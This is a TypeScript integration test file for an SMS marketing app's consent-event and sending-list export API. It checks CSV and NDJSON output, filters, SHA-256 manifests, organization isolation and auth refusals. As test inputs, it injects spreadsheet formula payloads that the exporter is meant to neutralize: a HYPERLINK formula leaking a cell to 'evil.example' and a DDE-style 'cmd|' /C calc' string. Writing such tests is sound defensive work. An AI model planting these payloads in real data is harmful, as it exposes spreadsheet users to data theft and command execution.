// Consent exports and the sending list through the real route handlers: columns, ISO times,
// neutralized formulas, exact filters, the manifest's SHA-256 against the bytes received, the
// export.created evidence, organization scoping and refusals that write nothing.
import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as getManifest } from "@/app/api/v1/exports/[exportId]/route";
import { GET as consentEventsRoute } from "@/app/api/v1/exports/consent-events/route";
import { GET as sendingListRoute } from "@/app/api/v1/exports/sending-list/route";
import { POST as signupRoute } from "@/app/api/v1/public/forms/[formId]/signups/route";
import { outboxIdle } from "@/lib/sms/outbox-worker";
import { POST as smsWebhook } from "@/app/api/webhooks/twilio/sms/route";
import { createApiKey } from "@/lib/api-keys/create-api-key";
import { createAudience } from "@/lib/audiences/create-audience";
import { SYSTEM_ACTOR, userActor } from "@/lib/consent-events/actor";
import { recordEvent } from "@/lib/consent-events/record-event";
import { db, getConnection } from "@/lib/db/client";
import { neutralizedSql } from "@/lib/exports/csv";
import { CONSENT_EVENT_COLUMNS, exportConsentEvents } from "@/lib/exports/export-consent-events";
import { SENDING_LIST_COLUMNS } from "@/lib/exports/export-sending-list";
import { createForm } from "@/lib/forms/create-form";
import { publishForm } from "@/lib/forms/publish-form";
import {
  createPublishedFormFixture,
  inboundSmsParams,
  signedTwilioRequest,
  signupRequest,
  makeFormPublishable,
} from "../support/factories";

type Fixture = Awaited<ReturnType<typeof createPublishedFormFixture>>;
let mine: Fixture;
let theirs: Fixture;
let secondAudienceId: string;
let secondFormId: string;
let key: string;
let theirKey: string;

const INJECTIONS = {
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  plus: "+1",
  minus: "-2",
  at: "@x",
};
const TAB_PAYLOAD = "\t=1+2";
const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;

const call = (path: string, token: string | null = key) =>
  new Request(`http://internal${path}`, {
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });

async function download(response: Response) {
  const bytes = new Uint8Array(await response.arrayBuffer());
  return {
    status: response.status,
    headers: response.headers,
    bytes,
    text: new TextDecoder().decode(bytes),
    sha256: createHash("sha256").update(bytes).digest("hex"),
  };
}

const consentCsv = async (query: string, token: string | null = key) =>
  download(await consentEventsRoute(call(`/api/v1/exports/consent-events?${query}`, token)));
const sendingList = async (query: string, token: string | null = key) =>
  download(await sendingListRoute(call(`/api/v1/exports/sending-list?${query}`, token)));

/**
 * RFC 4180 with LF records (as COPY writes them), the way a spreadsheet reads it: quoted cells
 * may hold commas, quotes and line breaks.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += char;
  }
  expect(cell).toBe("");
  expect(row).toEqual([]);
  return rows;
}

/** CSV rows as objects keyed by the header. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((cells) => {
    expect(cells).toHaveLength(header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, cells[i]!]));
  });
}

async function signUp(
  formId: string,
  phone: string,
  headers: Record<string, string> = {},
  pageUrl = "https://shop.example.com/spring",
) {
  const response = await signupRoute(
    signupRequest(formId, { phone, country: "US", marketingConsent: true, pageUrl }, headers),
    { params: Promise.resolve({ formId }) },
  );
  await outboxIdle();
  expect(response.status).toBe(202);
}

async function text(from: string, body: string) {
  const response = await smsWebhook(
    signedTwilioRequest("/api/webhooks/twilio/sms", inboundSmsParams(from, body)),
  );
  expect(response.status).toBe(200);
}

const eventsInOrder = (organizationId: string) =>
  db.consentEvent.findMany({
    where: { organizationId },
    orderBy: [{ createdAt: "asc" }, { id: "asc" }],
  });

beforeAll(async () => {
  mine = await createPublishedFormFixture({ label: "Mine" });
  theirs = await createPublishedFormFixture({ label: "Theirs" });
  const second = await createAudience({
    organizationId: mine.organizationId,
    input: { name: "Second list" },
  });
  secondAudienceId = second.id;
  const form = await createForm({
    organizationId: mine.organizationId,
    input: {
      name: "Second form",
      audienceId: second.id,
      programName: "Acme Second",
      locale: "en",
      defaultCountry: "US",
    },
  });
  await makeFormPublishable(mine.organizationId, form.id);
  await publishForm({
    organizationId: mine.organizationId,
    formId: form.id,
    userId: mine.account.user.id,
  });
  secondFormId = form.id;

  // Strangers' text lands in cells: user agents, the IP header as the route reads it, page URLs.
  await signUp(mine.form.id, "2015550101", { "user-agent": INJECTIONS.hyperlink });
  await signUp(mine.form.id, "2015550102", { "user-agent": INJECTIONS.plus }, INJECTIONS.minus);
  await signUp(mine.form.id, "2015550103", {
    "user-agent": INJECTIONS.minus,
    "x-forwarded-for": INJECTIONS.at,
  });
  await signUp(mine.form.id, "2015550104", { "user-agent": INJECTIONS.at }, `\t${INJECTIONS.at}`);
  await signUp(mine.form.id, "2015550105");
  await signUp(secondFormId, "2015550201");
  await signUp(secondFormId, "2015550202");
  await signUp(theirs.form.id, "2015550901");

  // HTTP headers cannot start with a tab; staff-entered values can.
  await db.$transaction((tx) =>
    recordEvent(tx, {
      organizationId: mine.organizationId,
      type: "member.added",
      data: { userId: "u1", email: "new@example.test", role: "MARKETER" },
      actor: { type: "USER", id: "u0", name: TAB_PAYLOAD, userAgent: TAB_PAYLOAD },
      at: new Date("2024-01-15T23:30:00.000Z"),
    }),
  );
  await db.$transaction((tx) =>
    recordEvent(tx, {
      organizationId: mine.organizationId,
      type: "member.removed",
      data: { userId: "u1", email: "new@example.test", role: "MARKETER" },
      actor: SYSTEM_ACTOR,
      at: new Date("2024-02-01T00:00:00.000Z"),
    }),
  );

  ({ key } = await createApiKey({
    organizationId: mine.organizationId,
    actor: userActor(mine.account.user),
    input: { name: "exporter", scopes: ["exports:read"] },
  }));
  ({ key: theirKey } = await createApiKey({
    organizationId: theirs.organizationId,
    actor: userActor(theirs.account.user),
    input: { name: "their exporter", scopes: ["exports:read"] },
  }));
});

describe("GET /api/v1/exports/consent-events", () => {
  it("streams every event of the organization as CSV, oldest first, with ISO UTC times", async () => {
    const expected = await eventsInOrder(mine.organizationId);
    const file = await consentCsv("format=csv");
    expect(file.status).toBe(200);
    expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const exportId = file.headers.get("x-export-id")!;
    expect(exportId).toBeTruthy();
    expect(file.headers.get("link")).toBe(`</api/v1/exports/${exportId}>; rel="describedby"`);
    expect(file.headers.get("content-disposition")).toMatch(
      new RegExp(
        `^attachment; filename="optline-consent-events-\\d{4}-\\d{2}-\\d{2}-${exportId}\\.csv"$`,
      ),
    );

    expect(parseCsv(file.text)[0]).toEqual([...CONSENT_EVENT_COLUMNS]);
    const rows = records(file.text);
    expect(rows.map((row) => row.event_id)).toEqual(expected.map((event) => event.id));

    const subscribers = await db.subscriber.findMany({
      where: { organizationId: mine.organizationId },
    });
    const audiences = await db.audience.findMany({
      where: { organizationId: mine.organizationId },
    });
    for (const [i, row] of rows.entries()) {
      const event = expected[i]!;
      const subscriber = subscribers.find((s) => s.id === event.subscriberId);
      expect(row.occurred_at).toMatch(ISO_UTC);
      expect(row).toMatchObject({
        chain_seq: String(event.seq),
        occurred_at: event.createdAt.toISOString(),
        type: event.type,
        subscriber_id: event.subscriberId ?? "",
        phone: subscriber?.phone ?? "",
        audience_id: subscriber?.audienceId ?? "",
        audience_name: audiences.find((a) => a.id === subscriber?.audienceId)?.name ?? "",
        actor_type: event.actorType.toLowerCase(),
        hash: event.hash,
        prev_hash: event.prevHash ?? "",
      });
      expect(JSON.parse(row.data!)).toEqual(event.data);
    }
    const signup = rows.find((row) => row.phone === "+12015550105")!;
    expect(signup).toMatchObject({
      type: "signup.submitted",
      actor_name: "+12015550105",
      ip: "203.0.113.7",
      user_agent: "Mozilla/5.0 (integration test)",
    });
  });

  it("neutralizes spreadsheet formulas in every cell, and quotes per RFC 4180", async () => {
    const file = await consentCsv("format=csv");
    const rows = records(file.text);
    const signupOf = (phone: string) =>
      rows.find((row) => row.phone === phone && row.type === "signup.submitted")!;

    expect(signupOf("+12015550101").user_agent).toBe(`'${INJECTIONS.hyperlink}`);
    expect(signupOf("+12015550102").user_agent).toBe("'+1");
    expect(signupOf("+12015550103").user_agent).toBe("'-2");
    expect(signupOf("+12015550103").ip).toBe("'@x");
    expect(signupOf("+12015550104").user_agent).toBe("'@x");
    const staff = rows.find((row) => row.type === "member.added")!;
    expect(staff.actor_name).toBe(`'${TAB_PAYLOAD}`);
    expect(staff.user_agent).toBe(`'${TAB_PAYLOAD}`);
    // Page URLs are inside the data cell, which is JSON and starts with "{".
    expect(JSON.parse(signupOf("+12015550102").data!)).toMatchObject({ pageUrl: "-2" });
    expect(JSON.parse(signupOf("+12015550104").data!)).toMatchObject({ pageUrl: "\t@x" });

    // The raw file: the hyperlink cell is quoted, its quotes doubled.
    expect(file.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
    // No cell anywhere starts a formula; E.164 numbers are plain numbers and stay verbatim.
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (/^\+\d{8,15}$/.test(cell)) continue;
        expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it("writes NDJSON: one object per line with the same fields and data as an object", async () => {
    const expected = await eventsInOrder(mine.organizationId);
    const file = await consentCsv("format=ndjson");
    expect(file.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(file.text.endsWith("\n")).toBe(true);
    const lines = file.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.map((line) => line.id)).toEqual(expected.map((event) => event.id));
    const hyperlink = lines.find(
      (line) => line.phone === "+12015550101" && line.type === "signup.submitted",
    )!;
    expect(hyperlink).toMatchObject({
      seq: 1,
      occurredAt: expected.find((e) => e.id === hyperlink.id)!.createdAt.toISOString(),
      userAgent: INJECTIONS.hyperlink,
      actorType: "subscriber",
      audienceId: mine.audience.id,
      audienceName: "VIP list",
      prevHash: null,
    });
    expect(hyperlink.data).toEqual(expected.find((e) => e.id === hyperlink.id)!.data);
    expect(Object.keys(hyperlink)).toEqual([
      "id",
      "seq",
      "occurredAt",
      "type",
      "subscriberId",
      "phone",
      "audienceId",
      "audienceName",
      "actorType",
      "actorName",
      "ip",
      "userAgent",
      "data",
      "hash",
      "prevHash",
    ]);
  });

  it("filters by date range (inclusive, UTC), audience and event types exactly", async () => {
    const all = await eventsInOrder(mine.organizationId);
    const ids = async (query: string) =>
      records((await consentCsv(`format=csv&${query}`)).text).map((row) => row.event_id);
    const idsWhere = (keep: (event: (typeof all)[number]) => boolean) =>
      all.filter(keep).map((event) => event.id);

    // A date alone covers that whole UTC day.
    expect(await ids("from=2024-01-01&to=2024-01-15")).toEqual(
      idsWhere((e) => e.type === "member.added"),
    );
    expect(await ids("from=2024-01-16&to=2024-01-31")).toEqual([]);
    expect(await ids("from=2024-02-01T00:00:00Z&to=2024-02-01T00:00:00.000Z")).toEqual(
      idsWhere((e) => e.type === "member.removed"),
    );
    // Exact instants, both ends included; an offset is honoured.
    const recent = all.filter((e) => e.createdAt.getFullYear() > 2024);
    const from = recent[2]!.createdAt;
    const to = recent[recent.length - 3]!.createdAt;
    expect(
      await ids(`from=${from.toISOString()}&to=${encodeURIComponent(to.toISOString())}`),
    ).toEqual(idsWhere((e) => e.createdAt >= from && e.createdAt <= to));
    const shifted = new Date(from.getTime() + 2 * 3600_000).toISOString().replace("Z", "+02:00");
    expect(
      await ids(`from=${encodeURIComponent(shifted)}&to=${encodeURIComponent(to.toISOString())}`),
    ).toEqual(idsWhere((e) => e.createdAt >= from && e.createdAt <= to));

    const second = await db.subscriber.findMany({ where: { audienceId: secondAudienceId } });
    expect(second).toHaveLength(2);
    expect(await ids(`audienceId=${secondAudienceId}`)).toEqual(
      idsWhere((e) => second.some((s) => s.id === e.subscriberId)),
    );

    expect(await ids("type=sms.sent&type=member.removed")).toEqual(
      idsWhere((e) => e.type === "sms.sent" || e.type === "member.removed"),
    );
    expect(await ids("type=signup.submitted,sms.delivery")).toEqual(
      idsWhere((e) => e.type === "signup.submitted" || e.type === "sms.delivery"),
    );
    expect(await ids(`type=sms.sent&audienceId=${secondAudienceId}&from=2025-01-01`)).toEqual(
      idsWhere((e) => e.type === "sms.sent" && second.some((s) => s.id === e.subscriberId)),
    );
  });

  it("pages by (createdAt, id) without skipping or repeating events on the same millisecond", async () => {
    const at = new Date("2023-06-01T12:00:00.000Z");
    const subscriber = await db.subscriber.findFirstOrThrow({ where: { phone: "+12015550105" } });
    for (let i = 0; i < 7; i++) {
      await db.$transaction((tx) =>
        recordEvent(tx, {
          organizationId: mine.organizationId,
          subscriberId: subscriber.id,
          type: "verification.revoked",
          data: { method: "staff", reason: `tie ${i}` },
          actor: SYSTEM_ACTOR,
          at,
        }),
      );
    }
    const expected = (await eventsInOrder(mine.organizationId)).map((event) => event.id);
    const { stream } = await exportConsentEvents({
      organizationId: mine.organizationId,
      actor: SYSTEM_ACTOR,
      query: { format: "csv" },
      pageSize: 2,
    });
    const paged = records(await new Response(stream).text()).map((row) => row.event_id);
    expect(paged).toEqual(expected);
    // The same export in one page (it now also holds the first export's export.created event).
    const now = (await eventsInOrder(mine.organizationId)).map((event) => event.id);
    const whole = records((await consentCsv("format=csv")).text).map((row) => row.event_id);
    expect(whole).toEqual(now);
  });

  it("serves a manifest whose SHA-256 and row count match the bytes received", async () => {
    const startedBefore = new Date();
    const file = await consentCsv(
      `format=csv&type=signup.submitted&audienceId=${mine.audience.id}`,
    );
    const exportId = file.headers.get("x-export-id")!;
    const rowCount = records(file.text).length;
    expect(rowCount).toBe(5);

    const response = await getManifest(call(`/api/v1/exports/${exportId}`), {
      params: Promise.resolve({ exportId }),
    });
    expect(response.status).toBe(200);
    const { data } = (await response.json()) as { data: Record<string, unknown> };
    expect(data).toMatchObject({
      id: exportId,
      kind: "consent_events",
      format: "csv",
      status: "completed",
      rowCount,
      sha256: file.sha256,
      generatedBy: { type: "api_key", name: "exporter" },
      filters: {
        from: null,
        audienceId: mine.audience.id,
        types: ["signup.submitted"],
      },
    });
    const filters = data.filters as { to: string };
    expect(new Date(filters.to).getTime()).toBeGreaterThanOrEqual(startedBefore.getTime() - 1);
    expect(data.generatedAt).toMatch(ISO_UTC);

    // The export is itself evidence, on the organization's chain, carrying the same hash.
    const event = (
      await db.consentEvent.findMany({
        where: { organizationId: mine.organizationId, type: "export.created" },
      })
    ).find((e) => (e.data as { exportId: string }).exportId === exportId)!;
    expect(event).toMatchObject({ chainId: "org", subscriberId: null, actorType: "API_KEY" });
    expect(event.data).toEqual({
      exportId,
      kind: "consent_events",
      format: "csv",
      filters: data.filters,
      status: "completed",
      rowCount,
      sha256: file.sha256,
    });

    // Another organization's key cannot see it.
    const theirView = await getManifest(call(`/api/v1/exports/${exportId}`, theirKey), {
      params: Promise.resolve({ exportId }),
    });
    expect(theirView.status).toBe(404);
  });

  it("records a download abandoned half-way as failed, with no hash", async () => {
    const { exportId, stream } = await exportConsentEvents({
      organizationId: mine.organizationId,
      actor: SYSTEM_ACTOR,
      query: {},
      pageSize: 2,
    });
    // The header arrives at once; the body is being read from the database when the reader
    // goes away (a later cancel could race the end of this small file).
    const reader = stream.getReader();
    expect(new TextDecoder().decode((await reader.read()).value)).toMatch(/^event_id,/);
    await reader.cancel();
    const row = await db.dataExport.findUniqueOrThrow({ where: { id: exportId } });
    expect(row).toMatchObject({ status: "failed", sha256: null });
    expect(row.completedAt).toBeInstanceOf(Date);
    // How many rows got through is not known: no count is claimed.
    expect(row.rowCount).toBeNull();
    const events = await db.consentEvent.findMany({ where: { type: "export.created" } });
    expect(
      events.find((e) => (e.data as { exportId: string }).exportId === exportId)?.data,
    ).toMatchObject({ status: "failed", rowCount: null, sha256: null });
    // The abandoned read was ended cleanly: the next export runs and completes.
    const next = await consentCsv("format=csv");
    expect(records(next.text).length).toBeGreaterThan(0);
    const manifest = await db.dataExport.findUniqueOrThrow({
      where: { id: next.headers.get("x-export-id")! },
    });
    expect(manifest.status).toBe("completed");
  });

  it("answers 422 with field errors to bad filters and writes nothing", async () => {
    const before = { exports: await db.dataExport.count(), events: await db.consentEvent.count() };
    const cases: [string, string[]][] = [
      ["from=yesterday", ["from"]],
      ["to=2026-02-30", ["to"]],
      ["from=2026-13-01T00:00:00Z", ["from"]],
      ["type=signup.submitted&type=nope", ["type"]],
      ["from=2026-03-02&to=2026-03-01", ["to"]],
      [`audienceId=${theirs.audience.id}`, ["audienceId"]],
      ["format=xlsx&type=x", ["format", "type"]],
    ];
    for (const [query, fields] of cases) {
      const response = await consentEventsRoute(call(`/api/v1/exports/consent-events?${query}`));
      expect(response.status, query).toBe(422);
      const body = (await response.json()) as { error: { code: string; fields: object } };
      expect(body.error.code).toBe("VALIDATION_FAILED");
      expect(Object.keys(body.error.fields).sort(), query).toEqual(fields);
    }
    const list = await sendingListRoute(
      call(`/api/v1/exports/sending-list?audienceId=${theirs.audience.id}`),
    );
    expect(list.status).toBe(422);
    expect(await db.dataExport.count()).toBe(before.exports);
    expect(await db.consentEvent.count()).toBe(before.events);
  });

  it("never shows another organization's data", async () => {
    const theirEvents = await eventsInOrder(theirs.organizationId);
    const mineFile = await consentCsv("format=ndjson");
    const theirFile = await consentCsv("format=ndjson", theirKey);
    const theirSubscriber = await db.subscriber.findFirstOrThrow({
      where: { organizationId: theirs.organizationId },
    });
    expect(mineFile.text).not.toContain("+12015550901");
    expect(mineFile.text).not.toContain(theirSubscriber.id);
    const theirLines = theirFile.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as { id: string; phone: string | null });
    expect(theirLines.map((line) => line.id)).toEqual(theirEvents.map((event) => event.id));
    expect(new Set(theirLines.map((line) => line.phone).filter(Boolean))).toEqual(
      new Set(["+12015550901"]),
    );
  });

  it("refuses calls without a key (401) or without the exports:read scope (403)", async () => {
    expect((await consentEventsRoute(call("/api/v1/exports/consent-events", null))).status).toBe(
      401,
    );
    expect((await sendingListRoute(call("/api/v1/exports/sending-list", null))).status).toBe(401);
    expect(
      (
        await getManifest(call("/api/v1/exports/x", null), {
          params: Promise.resolve({ exportId: "x" }),
        })
      ).status,
    ).toBe(401);
    const { key: readOnly } = await createApiKey({
      organizationId: mine.organizationId,
      actor: userActor(mine.account.user),
      input: { name: "reader", scopes: ["subscribers:read"] },
    });
    expect(
      (await consentEventsRoute(call("/api/v1/exports/consent-events", readOnly))).status,
    ).toBe(403);
  });
});

describe("neutralizedSql", () => {
  const cells = async (values: (string | null)[]) =>
    (
      await getConnection().raw.query<{ cell: string | null }>(
        `SELECT ${neutralizedSql("v")} AS "cell" FROM unnest($1::text[]) WITH ORDINALITY AS t(v, n) ORDER BY n`,
        [values],
      )
    ).map((row) => row.cell);

  it("puts a quote before every cell a spreadsheet would read as a formula", async () => {
    expect(
      await cells(["=1+2", "+1", "-2", "@SUM(A1:A2)", "\tcmd", "\r=1", "-2+3+cmd|' /C calc'!A0"]),
    ).toEqual([
      "'=1+2",
      "'+1",
      "'-2",
      "'@SUM(A1:A2)",
      "'\tcmd",
      "'\r=1",
      "'-2+3+cmd|' /C calc'!A0",
    ]);
  });

  it("leaves other text, empty cells and NULL alone", async () => {
    const plain = ["signup.submitted", "it's", "a,b", 'say "hi"', " =x", "", "é=1", "2026-01-31"];
    expect(await cells([...plain, null])).toEqual([...plain, null]);
  });

  it("keeps E.164 numbers verbatim, and only those", async () => {
    expect(
      await cells([
        "+12015550101",
        "+447911123456",
        "+1234567",
        "+123456",
        "+1234567890123456",
        "+02015550101",
        "+12015550101+1",
        "+12015550101\n",
      ]),
    ).toEqual([
      "+12015550101",
      "+447911123456",
      "+1234567",
      "'+123456",
      "'+1234567890123456",
      "'+02015550101",
      "'+12015550101+1",
      "'+12015550101\n",
    ]);
  });
});

describe("GET /api/v1/exports/sending-list", () => {
  beforeAll(async () => {
    // 0101: confirmed. 0102: pending. 0103: confirmed, then STOP. 0104: confirmed, then deleted.
    // 0105: confirmed, then suppressed. 0201: confirmed in the second audience. Theirs: confirmed.
    for (const phone of ["+12015550101", "+12015550103", "+12015550104", "+12015550105"]) {
      await text(phone, "YES");
    }
    await text("+12015550201", "YES");
    await text("+12015550901", "YES");
    await text("+12015550103", "STOP");
    await db.subscriber.updateMany({
      where: { phone: "+12015550104" },
      data: { deletedAt: new Date() },
    });
    await db.suppression.create({
      data: { organizationId: mine.organizationId, phone: "+12015550105", reason: "erasure" },
    });
  });

  it("lists confirmed, consented numbers only: no pending, unsubscribed, deleted or suppressed", async () => {
    const file = await sendingList("format=csv");
    expect(file.status).toBe(200);
    expect(file.headers.get("x-export-id")).toBeTruthy();
    expect(parseCsv(file.text)[0]).toEqual([...SENDING_LIST_COLUMNS]);
    const rows = records(file.text);
    expect(rows.map((row) => row.phone).sort()).toEqual(["+12015550101", "+12015550201"]);

    const subscriber = await db.subscriber.findFirstOrThrow({
      where: { phone: "+12015550101" },
      include: { consents: true },
    });
    const consent = subscriber.consents.find((c) => c.purpose === "MARKETING")!;
    expect(rows.find((row) => row.phone === "+12015550101")).toEqual({
      phone: "+12015550101",
      audience_id: mine.audience.id,
      audience_name: "VIP list",
      marketing_granted_at: consent.grantedAt!.toISOString(),
      marketing_confirmed_at: consent.confirmedAt!.toISOString(),
      subscriber_id: subscriber.id,
    });
    // The phone is verbatim: a sending platform needs the "+".
    expect(file.text).toContain("\n+12015550101,");
  });

  it("filters by audience, writes NDJSON, and keeps a manifest", async () => {
    const file = await sendingList(`format=ndjson&audienceId=${secondAudienceId}`);
    const lines = file.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({
      phone: "+12015550201",
      audienceId: secondAudienceId,
      audienceName: "Second list",
    });
    expect(lines[0]!.marketingConfirmedAt).toMatch(ISO_UTC);
    const manifest = await db.dataExport.findUniqueOrThrow({
      where: { id: file.headers.get("x-export-id")! },
    });
    expect(manifest).toMatchObject({
      kind: "sending_list",
      format: "ndjson",
      status: "completed",
      rowCount: 1,
      sha256: file.sha256,
      filters: { audienceId: secondAudienceId },
    });
  });

  it("never lists another organization's numbers", async () => {
    const mineFile = await sendingList("format=csv");
    expect(mineFile.text).not.toContain("+12015550901");
    const theirFile = await sendingList("format=csv", theirKey);
    expect(records(theirFile.text).map((row) => row.phone)).toEqual(["+12015550901"]);
  });
});
